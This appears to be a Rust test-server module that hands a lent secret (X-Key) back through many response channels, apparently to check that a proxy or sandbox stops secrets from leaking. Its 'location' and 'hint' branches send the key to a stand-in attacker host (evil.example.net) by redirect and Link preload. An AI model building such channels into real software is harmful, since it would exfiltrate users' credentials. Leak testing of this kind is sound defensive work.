//! A server that hands a request's `X-Key` back to whoever asked, in every place that an answer has: what a guest uses to
//! learn a value that it was only lent. The path says where.

use super::http::{Body, whole};
use async_compression::tokio::bufread::{BrotliEncoder, GzipEncoder, ZlibEncoder, ZstdEncoder};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use bytes::Bytes;
use http_body_util::{BodyExt as _, StreamBody};
use hyper::{
    HeaderMap, Response, StatusCode,
    body::Frame,
    ext::ReasonPhrase,
    header::{self, HeaderName, HeaderValue},
};
use std::{convert::Infallible, time::Duration};
use tokio::io::AsyncReadExt as _;

/// The ways, as the last part of `/hand-back/WAY`.
pub const WAYS: &[&str] = &[
    "header", "location", "cookie", "reason", "page", "json", "url", "html", "base64", "basic", "pieces",
    "trailer", "gzip", "deflate", "br", "zstd", "hint",
];

/// Answers in this way.
pub(super) async fn answer(way: &str, key: &str) -> Response<Body> {
    let line = format!("the key is {key}.\n");
    let mut response = Response::new(whole(line.clone()));
    let mut field = |name: HeaderName, value: String| {
        // What is no field's value stays out: the answer then has none, and the test says so.
        if let Ok(value) = HeaderValue::from_str(&value) {
            response.headers_mut().insert(name, value);
        }
    };
    match way {
        "header" => field(HeaderName::from_static("x-back"), key.to_owned()),
        "location" => field(header::LOCATION, format!("https://evil.example.net/?k={key}")),
        "cookie" => field(header::SET_COOKIE, format!("k={key}; Path=/")),
        "basic" => field(
            header::WWW_AUTHENTICATE,
            format!("Basic realm=\"{}\"", STANDARD.encode(format!("x:{key}"))),
        ),
        "hint" => field(header::LINK, format!("<https://evil.example.net/{key}>; rel=preload")),
        "reason" => {
            if let Ok(reason) = ReasonPhrase::try_from(key.as_bytes().to_vec()) {
                response.extensions_mut().insert(reason);
            }
        }
        "json" => *response.body_mut() = whole(serde_json::json!({ "key": key, "line": line }).to_string()),
        "url" => *response.body_mut() = whole(escaped(key, "-_.!~*'()", |octet| format!("%{octet:02X}"))),
        "html" => *response.body_mut() = whole(html(key)),
        "base64" => *response.body_mut() = whole(STANDARD.encode(&line)),
        "pieces" => *response.body_mut() = pieces(line, None),
        "trailer" => {
            let mut trailers = HeaderMap::new();
            trailers.extend(HeaderValue::from_str(key).ok().map(|v| (HeaderName::from_static("x-back"), v)));
            response.headers_mut().insert(header::TRAILER, HeaderValue::from_static("x-back"));
            *response.body_mut() = pieces("no key here.\n".into(), Some(trailers));
        }
        "gzip" | "deflate" | "br" | "zstd" => {
            let coding = HeaderValue::from_str(way).unwrap_or(HeaderValue::from_static("identity"));
            response.headers_mut().insert(header::CONTENT_ENCODING, coding);
            *response.body_mut() = whole(coded(way, line.as_bytes()).await);
        }
        _ => {}
    }
    match way {
        "location" => *response.status_mut() = StatusCode::FOUND,
        "page" => *response.status_mut() = StatusCode::INTERNAL_SERVER_ERROR,
        "basic" => *response.status_mut() = StatusCode::UNAUTHORIZED,
        _ => {}
    }
    response
}

/// The key with all that is neither a letter nor a digit nor one of these written otherwise, as in a URL.
fn escaped(key: &str, plain: &str, other: impl Fn(u8) -> String) -> String {
    let one = |octet: u8| {
        let kept = octet.is_ascii_alphanumeric() || plain.as_bytes().contains(&octet);
        if kept { char::from(octet).to_string() } else { other(octet) }
    };
    key.bytes().map(one).collect()
}

fn html(key: &str) -> String {
    key.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// An octet at a time, and then these trailers.
fn pieces(text: String, trailers: Option<HeaderMap>) -> Body {
    let (sender, receiver) = tokio::sync::mpsc::channel::<Result<Frame<Bytes>, Infallible>>(1);
    tokio::spawn(async move {
        for octet in text.into_bytes() {
            let _ = sender.send(Ok(Frame::data(Bytes::copy_from_slice(&[octet])))).await;
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
        if let Some(trailers) = trailers {
            let _ = sender.send(Ok(Frame::trailers(trailers))).await;
        }
    });
    StreamBody::new(super::http::futures_stream(receiver)).boxed_unsync()
}

async fn coded(coding: &str, bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    // From memory to memory: nothing that could fail.
    let _ = match coding {
        "gzip" => GzipEncoder::new(bytes).read_to_end(&mut out).await,
        "deflate" => ZlibEncoder::new(bytes).read_to_end(&mut out).await,
        "br" => BrotliEncoder::new(bytes).read_to_end(&mut out).await,
        _ => ZstdEncoder::new(bytes).read_to_end(&mut out).await,
    };
    out
}
